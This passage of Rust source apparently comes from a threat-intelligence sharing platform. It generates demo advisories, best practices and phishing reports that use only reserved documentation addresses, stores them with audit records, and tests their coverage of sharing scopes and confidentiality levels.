        d.executive_context = format!("{} {STAGE_CONFIRMED}", c.background);
        d.technical_details = format!("{}\n\n{DEEP_DIVE_NOTE}", c.technical);
        d.countermeasures = c.countermeasures.to_owned();
        d.indicators = pick(&pool, 10, ci * 5 + 2);
        d.techniques = strs(c.techniques);
        d.cves = strs(c.cves);
        d.products = products(c.products);
        push(vendor, d, 72, false);

        // The coordinator's countermeasures for everyone: early, then final.
        for (j, hours) in [(0, 28), (1, 96)] {
            let coordinator = self.coordinator;
            let mut d = draft(
                ItemKind::Countermeasure,
                c.advice[j].to_owned(),
                Confidence::Confirmed,
                if j == 0 { Tlp::Green } else { Tlp::Clear },
                self.scope(Shape::Everyone, coordinator, &[], ci),
            );
            d.executive_context = format!("{} {ADVICE_NOTE}", c.background);
            d.technical_details = c.technical.to_owned();
            d.countermeasures = c.countermeasures.to_owned();
            d.indicators = pick(&pool, [3, 2 * ((ci + 1) % 2)][j], ci);
            d.techniques = strs(c.techniques);
            d.cves = strs(c.cves);
            d.products = products(c.products);
            push(coordinator, d, hours, false);
        }

        // What worked for a victim, for everyone but its own regulators.
        let provider = ops[1];
        let mut scope = self.scope(Shape::Everyone, provider, &[], ci);
        scope.exclude_regulators_of_my_sector = true;
        let title = if ci.is_multiple_of(3) {
            format!("{}被害からの復旧で有効だった対策", c.name_ja)
        } else {
            format!("What worked for us against {}", c.name)
        };
        let mut d = draft(
            ItemKind::Countermeasure,
            title,
            Confidence::Confirmed,
            Tlp::Green,
            scope,
        );
        d.executive_context = format!("{LESSONS} {}", c.background);
        d.countermeasures = c.countermeasures.to_owned();
        d.techniques = strs(c.techniques);
        d.cves = strs(c.cves);
        d.show_provider_sector = ci.is_multiple_of(2);
        push(provider, d, 120, false);
    }

    fn practice(&self, i: usize, p: &Practice) -> Sample {
        let provider = match p.by {
            By::Coordinator => self.coordinator,
            By::Vendor => self.vendor(i),
            By::Operator => self.operators[(i * 7) % self.operators.len()],
            By::General => self.general[(i * 11) % self.general.len()],
        };
        let member_shares = matches!(p.by, By::Operator | By::General);
        let mut scope = self.scope(Shape::Everyone, provider, &[], i);
        if member_shares && i.is_multiple_of(3) {
            scope.sectors = [self.members[provider].sector].into();
        }
        if i % 7 == 5 {
            scope.exclude_all_regulators = true;
        }
        let mut d = draft(
            ItemKind::BestPractice,
            p.title.to_owned(),
            Confidence::Confirmed,
            if i.is_multiple_of(2) {
                Tlp::Clear
            } else {
                Tlp::Green
            },
            scope,
        );
        d.executive_context = p.context.to_owned();
        d.technical_details = p.detail.to_owned();
        d.countermeasures = p.practice.to_owned();
        d.techniques = strs(p.techniques);
        d.show_provider_sector = member_shares && i % 2 == 1;
        Sample {
            provider,
            draft: d,
            age_minutes: 60 + (i as i64 * 2693) % (58 * DAY),
            retracted: false,
        }
    }

    fn phish(&self, i: usize, p: &Phish) -> Sample {
        let provider = self.general[(i * 13) % self.general.len()];
        let title = if is_japanese(p.subject) {
            format!("不審メール受信: 「{}」", p.subject)
        } else {
            format!("Suspicious mail received: \"{}\"", p.subject)
        };
        let shape = if i % 5 == 2 {
            Shape::NotMyRegulators
        } else {
            Shape::TaskForce
        };
        let mut d = draft(
            ItemKind::ThreatInformation,
            title,
            [
                Confidence::Probable,
                Confidence::Unconfirmed,
                Confidence::Confirmed,
            ][i % 3],
            if i.is_multiple_of(2) {
                Tlp::Green
            } else {
                Tlp::Amber
            },
            self.scope(shape, provider, &[], i),
        );
        let domain = p.sender.split_once('@').map_or(p.sender, |(_, d)| d);
        let detail = match (p.attachment, p.url) {
            (Some(a), _) => format!("The attachment {a} is a loader (SHA-256 below); do not open it."),
            (None, Some(u)) => format!("The link leads to {u}, a look-alike login page."),
            (None, None) => "There is no link or attachment: the mail asks to change the bank account for future payments.".to_owned(),
        };
        let spf = if i.is_multiple_of(2) {
            "fails"
        } else {
            "passes (the domain is the attacker's own)"
        };
        d.executive_context = PHISH_CONTEXT[i % PHISH_CONTEXT.len()].to_owned();
        d.technical_details = format!(
            "Sent from {} with a sender address at {domain}; SPF {spf}. {detail}",
            p.ip
        );
        d.countermeasures = PHISH_CM.to_owned();
        d.indicators = vec![
            raw(K::EmailSubject, p.subject),
            raw(K::Email, p.sender),
            raw(K::Domain, domain),
            raw(K::Ipv4, p.ip),
        ];
        if let Some(u) = p.url {
            d.indicators.push(raw(K::Url, u));
        }
        if let Some(a) = p.attachment {
            d.indicators.push(raw(
                K::Sha256,
                &sha256_hex(&format!("tsunagu-demo/phish/{a}")),
            ));
        }
        d.techniques = strs(match (p.attachment, p.url) {
            (Some(_), _) => &["T1566.001", "T1204.002"],
            (None, Some(_)) => &["T1566.002", "T1598.003"],
            (None, None) => &["T1566", "T1656"],
        });
        d.show_provider_sector = i.is_multiple_of(3);
        Sample {
            provider,
            draft: d,
            age_minutes: 120 + (i as i64 * 5347) % (58 * DAY),
            retracted: false,
        }
    }
}

/// Every sample item for `members`, oldest first; empty when the council lacks a
/// coordinator, class 1 experts, class 2 operators or general members.
fn drafts(members: &[Member]) -> Vec<Sample> {
    let Some(council) = Council::new(members) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (ci, c) in CAMPAIGNS.iter().enumerate() {
        council.campaign(ci, c, &mut out);
    }
    for (i, p) in PRACTICES.iter().enumerate() {
        out.push(council.practice(i, p));
    }
    for (i, p) in PHISH.iter().enumerate() {
        out.push(council.phish(i, p));
    }
    out.sort_by_key(|s| std::cmp::Reverse(s.age_minutes));
    out
}

/// Shares the demo council's sample items inside `tx`, each checked by
/// [`ItemDraft::parse`] and audited like an item created through the API, oldest
/// first so that the sharing order matches the creation times (spread over the last
/// 60 days). A few are then retracted. `users` names, for each member, the user
/// recorded as having shared its items. Returns how many items were created.
///
/// # Errors
/// On database failure, or when a member that provides samples has no user in `users`.
pub async fn populate_items(
    tx: &mut Tx,
    members: &[Member],
    users: &[(MemberId, UserId)],
) -> ApiResult<usize> {
    let by_member: HashMap<MemberId, UserId> = users.iter().copied().collect();
    let now = OffsetDateTime::now_utc();
    let mut count = 0;
    for sample in drafts(members) {
        let provider = &members[sample.provider];
        let user = *by_member.get(&provider.id).ok_or_else(|| {
            ApiError::Internal(format!("no demo user for member {}", provider.id))
        })?;
        let title = sample.draft.title.clone();
        let content = sample
            .draft
            .parse()
            .map_err(|e| ApiError::Internal(format!("demo item {title:?}: {e}")))?;
        let created_at = now - Duration::minutes(sample.age_minutes);
        let mut item = Item {
            id: ItemId::new(),
            provider: provider.id,
            provider_sector: provider.sector,
            content,
            status: ItemStatus::Shared,
            revision: 1,
            created_at,
            updated_at: created_at,
        };
        let id = item.id.to_string();
        let seq = tx.insert_item(&item, user).await?;
        tx.audit(&audit_by(
            None,
            "item.create",
            "item",
            &id,
            json!({ "kind": item.content.kind, "tlp": item.content.tlp, "confidence": item.content.confidence, "scope": item.content.scope }),
        ))
        .await?;
        if sample.retracted {
            item.status = ItemStatus::Retracted;
            item.revision = 2;
            item.updated_at = (created_at + Duration::hours(8)).min(now);
            tx.update_item(seq, &item, user).await?;
            tx.audit(&audit_by(
                None,
                "item.retract",
                "item",
                &id,
                json!({ "revision": item.revision }),
            ))
            .await?;
        }
        count += 1;
    }
    Ok(count)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use std::collections::BTreeMap;
    use std::net::IpAddr;

    use tsunagu_core::indicator::Indicator;
    use tsunagu_core::item::ItemContent;
    use tsunagu_core::member::{MemberStatus, pseudonym_from};
    use tsunagu_store::testing::{Db, TestDb};
    use tsunagu_store::{IndicatorMatch, ItemQuery, Store};

    use super::*;

    /// The demo council's members, without a database.
    fn council() -> Vec<Member> {
        crate::demo::plan()
            .into_iter()
            .enumerate()
            .map(|(i, (f, _))| Member {
                id: MemberId::new(),
                name: f.name,
                pseudonym: pseudonym_from(u32::try_from(i).unwrap()),
                class: f.class,
                roles: f.roles,
                sector: f.sector,
                category: f.category,
                foreign_affiliated: f.foreign_affiliated,
                tf_special_approval: false,
                tf_suspended: false,
                regulator_of: f.regulator_of,
                confidential_opt_out: false,
                status: MemberStatus::Active,
                created_at: OffsetDateTime::UNIX_EPOCH,
                agreement: None,
            })
            .collect()
    }

    fn reserved_ip(ip: IpAddr) -> bool {
        match ip {
            IpAddr::V4(v4) => {
                let [a, b, c, _] = v4.octets();
                matches!((a, b, c), (192, 0, 2) | (198, 51, 100) | (203, 0, 113))
            }
            IpAddr::V6(v6) => v6.segments()[..2] == [0x2001, 0x0db8],
        }
    }

    fn reserved_domain(domain: &str) -> bool {
        ["example.com", "example.net", "example.org"]
            .iter()
            .any(|d| domain == *d || domain.ends_with(&format!(".{d}")))
    }

    /// Whether an indicator names only documentation addresses and reserved domains.
    fn reserved(ind: &Indicator) -> bool {
        let v = ind.value();
        match ind.kind() {
            K::Ipv4 | K::Ipv6 | K::Cidr => {
                let net = ind.ip_net().unwrap();
                reserved_ip(net.network()) && reserved_ip(net.broadcast())
            }
            K::Domain => reserved_domain(v),
            K::Email => reserved_domain(v.rsplit_once('@').unwrap().1),
            K::Url => {
                let rest = v.split_once("://").unwrap().1;
                let authority = rest.split(['/', '?', '#']).next().unwrap();
                let host = authority.split(':').next().unwrap();
                reserved_domain(host)
            }
            K::EmailSubject | K::Md5 | K::Sha1 | K::Sha256 => true,
        }
    }

    /// The scope shape of a parsed sample, as the task names them.
    fn shapes(c: &ItemContent, provider: &Member) -> Vec<&'static str> {
        let s = &c.scope;
        let tf: BTreeSet<MemberClass> = [MemberClass::Class1, MemberClass::Class2].into();
        let all: BTreeSet<MemberClass> = MemberClass::ALL.into();
        let mut out = Vec::new();
        let plain = s.sectors.is_empty()
            && s.members.is_empty()
            && s.excluded.is_empty()
            && !s.exclude_regulators_of_my_sector
            && !s.exclude_all_regulators;
        if plain && s.classes == all {
            out.push("everyone");
        }
        if plain && s.classes == tf {
            out.push("task force");
        }
        if !s.classes.is_empty() && s.sectors == [provider.sector].into() {
            out.push("sector only");
        }
        if s.classes.is_empty() {
            assert!(
                (2..=5).contains(&s.members.len()) && !s.members.contains(&provider.id),
                "{}",
                c.title
            );
            out.push("named members");
            if c.tlp == Tlp::Red && s.members.len() == 2 {
                out.push("TLP:RED to two members");
            }
        }
        if !s.excluded.is_empty() {
            assert!(!s.excluded.contains(&provider.id));
            out.push("excluded members");
        }
        if s.exclude_regulators_of_my_sector {
            out.push("not my regulators");
        }
        if s.exclude_all_regulators {
            out.push("no regulators");
        }
        out
    }

    #[test]
    fn samples_cover_every_kind_confidence_tlp_and_scope() {
        let members = council();
        let samples = drafts(&members);
        assert!((250..=350).contains(&samples.len()), "{}", samples.len());
        assert!(
            samples
                .windows(2)
                .all(|w| w[0].age_minutes >= w[1].age_minutes),
            "oldest first"
        );
        let mut kinds = BTreeSet::new();
        let mut confidences = BTreeSet::new();
        let mut tlps = BTreeSet::new();
        let mut seen_shapes: BTreeMap<&str, usize> = BTreeMap::new();
        let mut titles = BTreeSet::new();
        let mut items_with: BTreeMap<String, usize> = BTreeMap::new();
        let (mut retracted, mut shows_sector, mut victims, mut japanese) = (0, 0, 0, 0);
        for s in &samples {
            let provider = &members[s.provider];
            assert!(provider.is_active());
            assert!((1..60 * DAY).contains(&s.age_minutes));
            let c = s.draft.clone().parse().unwrap();
            assert!(
                titles.insert(c.title.clone()),
                "duplicate title {}",
                c.title
            );
            kinds.insert(c.kind);
            confidences.insert(c.confidence);
            tlps.insert(c.tlp);
            for shape in shapes(&c, provider) {
                *seen_shapes.entry(shape).or_default() += 1;
            }
            retracted += usize::from(s.retracted);
            shows_sector += usize::from(c.show_provider_sector);
            victims += usize::from(c.victim.is_some());
            japanese += usize::from(is_japanese(&c.title));
            match c.kind {
                ItemKind::Countermeasure | ItemKind::BestPractice => {
                    assert_eq!(c.confidence, Confidence::Confirmed, "{}", c.title);
                    assert_eq!(c.scope.classes, MemberClass::ALL.into(), "{}", c.title);
                }
                ItemKind::Analysis | ItemKind::ThreatInformation => {
                    assert!(!c.scope.classes.contains(&MemberClass::General));
                }
            }
            assert!(c.indicators.len() <= 20, "{}", c.title);
            for ind in &c.indicators {
                assert!(reserved(ind), "{}: {ind:?}", c.title);
                *items_with.entry(ind.value().to_owned()).or_default() += 1;
            }
            // Real names appear nowhere but in the victim's name.
            let mut text = vec![
                c.title.as_str(),
                &c.executive_context,
                &c.technical_details,
                &c.countermeasures,
            ];
            text.extend(c.victim.iter().map(|v| v.damage_details.as_str()));
            text.extend(c.indicators.iter().map(Indicator::value));
            for m in &members {
                assert!(
                    text.iter().all(|t| !t.contains(&m.name)),
                    "{} names {}",
                    c.title,
                    m.name
                );
            }
        }
        assert_eq!(kinds, ItemKind::ALL.into());
        assert_eq!(confidences, Confidence::ALL.into());
        assert_eq!(tlps, Tlp::ALL.into());
        for shape in [
            "everyone",
            "task force",
            "sector only",
            "named members",
            "excluded members",
            "not my regulators",
            "no regulators",
            "TLP:RED to two members",
        ] {
            assert!(seen_shapes.get(shape).is_some_and(|n| *n >= 3), "{shape}");
        }
        assert!(retracted >= 2 && shows_sector >= 20 && victims >= 50 && japanese >= 30);
        assert!(items_with[EXAMPLE_INDICATOR] >= 3);
        assert!(items_with["203.0.113.77"] >= 1);
        assert!(items_with["198.51.100.0/24"] >= 1);
        assert!(items_with.values().filter(|n| **n >= 3).count() >= 30);
    }

    #[test]
    fn titles_get_their_sector_and_article() {
        let t = "{sector} staff at a {sector} branch ({sector_ja})";
        assert_eq!(
            fill(t, Sector::Electricity),
            "Electricity staff at an electricity branch (電力)"
        );
        assert_eq!(
            fill(t, Sector::Railway),
            "Railway staff at a railway branch (鉄道)"
        );
    }

    #[test]
    fn campaign_data_is_complete() {
        for c in CAMPAIGNS {
            assert!(!c.targets.is_empty(), "{}", c.key);
            assert!(c.targets.iter().all(|s| s.is_critical_infrastructure()));
            assert!(
                !c.indicators.is_empty() && !c.techniques.is_empty(),
                "{}",
                c.key
            );
        }
        let keys: BTreeSet<_> = CAMPAIGNS.iter().map(|c| c.key).collect();
        assert_eq!(keys.len(), CAMPAIGNS.len());
    }

    #[test]
    fn a_council_without_the_needed_members_gets_no_samples() {
        assert!(drafts(&[]).is_empty());
        let vendors_only: Vec<Member> = council()
            .into_iter()
            .filter(|m| m.class == MemberClass::Class1)
            .collect();
        assert!(drafts(&vendors_only).is_empty());
    }

    async fn stored(db: Db) {
        let Some(test_db) = TestDb::new(db).await else {
            return;
        };
        let store = Store::open(&test_db.url).await.unwrap();
        let mut tx = store.begin().await.unwrap();
        let mut members = Vec::new();
        let mut users = Vec::new();
        for (i, (founding, _)) in crate::demo::plan().into_iter().enumerate() {
            let m = crate::bootstrap::found_member(&mut tx, founding)
                .await
                .unwrap();
            let login = format!("user{i}");
            let (user, _) = crate::bootstrap::found_user(
                &mut tx,
                m.id,
                &login,
                tsunagu_core::user::UserRole::Analyst,
                "not-a-hash",
            )
            .await
            .unwrap();
            users.push((m.id, user));
            members.push(m);
        }
        let n = populate_items(&mut tx, &members, &users).await.unwrap();
        tx.commit().await.unwrap();
        assert_eq!(n, drafts(&members).len());
        assert_eq!(store.item_count().await.unwrap(), i64::try_from(n).unwrap());

        let search = |indicator| ItemQuery {
            indicator: Some(indicator),
            ..ItemQuery::default()
        };
        let found = store
            .search_items(
                &search(IndicatorMatch::Value(EXAMPLE_INDICATOR.into())),
                None,
                100,
            )
            .await
            .unwrap();
        assert!(found.len() >= 3);
        assert!(
            found
                .windows(2)
                .all(|w| w[0].item.created_at >= w[1].item.created_at),
            "the sharing order follows the creation times"
        );
        let net = Indicator::parse(K::Ipv4, "203.0.113.77")
            .unwrap()
            .ip_net()
            .unwrap();
        let in_range = store
            .search_items(&search(IndicatorMatch::Net(net)), None, 100)
            .await
            .unwrap();
        assert!(in_range.len() >= 2, "the address and a range around it");
        let all = store
            .search_items(&ItemQuery::default(), None, 1000)
            .await
            .unwrap();
        let retracted: Vec<_> = all
            .iter()
            .filter(|s| s.item.status == ItemStatus::Retracted)
            .collect();
        assert!(!retracted.is_empty() && retracted.iter().all(|s| s.item.revision == 2));
        assert!(
            all.iter()
                .any(|s| s.item.created_at < OffsetDateTime::now_utc() - Duration::days(50))
        );
        store.close().await;
        test_db.cleanup().await;
    }

    #[tokio::test]
    async fn samples_are_stored_and_found_on_sqlite() {
        stored(Db::Sqlite).await;
    }

    #[tokio::test]
    async fn samples_are_stored_and_found_on_postgres() {
        stored(Db::Postgres).await;
    }
}
